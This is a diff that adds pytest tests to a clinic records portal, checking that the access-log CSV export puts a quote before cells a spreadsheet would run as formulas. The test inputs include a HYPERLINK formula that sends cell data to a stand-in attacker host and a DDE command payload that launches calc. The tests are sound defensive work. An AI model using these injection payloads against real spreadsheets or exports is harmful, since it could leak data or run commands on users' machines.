@@ -75,3 +75,31 @@ def test_bad_input_roles_and_another_clinics_patient(app, clinic, world):
     clinician.get(f"/portal/clinics/{clinic.id}/access", status=403)
     clinician.get(f"/portal/clinics/{clinic.id}/access/export.csv", params={"patient_id": clinic.patient_id},
                   status=403)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+
+
+@pytest.mark.parametrize("name", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\uff1d1+1"])
+def test_the_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(app, testapp, world, name):
+    """OWASP's CSV injection: a workspace's name is the organization's cell, and an organization chooses it."""
+    clinic = Clinic(testapp, world, world.connected(name=name))
+    testapp.get(clinic.url(f"patients/{clinic.patient_id}"), headers=clinic.headers)
+    admin, _ = staff_browser(app, clinic.id, "admin")
+    download = admin.get(f"/portal/clinics/{clinic.id}/access/export.csv", params={"patient_id": clinic.patient_id})
+    table = list(csv.reader(io.StringIO(download.text)))
+    assert [row[1] for row in table[1:]] == ["'" + name]
+    # The page shows the name as it is: only the spreadsheet's cells need the quote.
+    page = admin.get(f"/portal/clinics/{clinic.id}/access", params={"patient_id": clinic.patient_id})
+    assert page.html.find(id="accesses").find("tbody").find_all("td")[1].get_text() == name
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("=1+1", "'=1+1"), ("Acme = good", "Acme = good"),
+    ("", ""), (None, ""), (200, "200"), (-1, "'-1"), ("a\nb", "a\nb"),
+])
+def test_each_cell_that_starts_like_a_formula_gets_a_quote(cell, written):
+    from clinicrecords.csv_export import csv_text, neutral_cell
+
+    assert neutral_cell(cell) == written
+    assert list(csv.reader(io.StringIO(csv_text(["=h"], [[cell]])))) == [["'=h"], [written]]
